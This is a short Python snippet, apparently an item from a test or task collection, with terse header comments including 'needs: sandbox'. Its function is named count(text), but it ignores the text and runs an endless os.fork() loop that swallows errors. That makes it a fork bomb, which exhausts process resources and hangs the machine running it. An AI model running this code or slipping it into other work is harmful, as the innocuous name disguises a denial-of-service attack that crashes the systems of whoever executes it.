# Every process starts two.
# stock: no score
# solves: scale, centre
# needs: sandbox
# %% count
def count(text):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
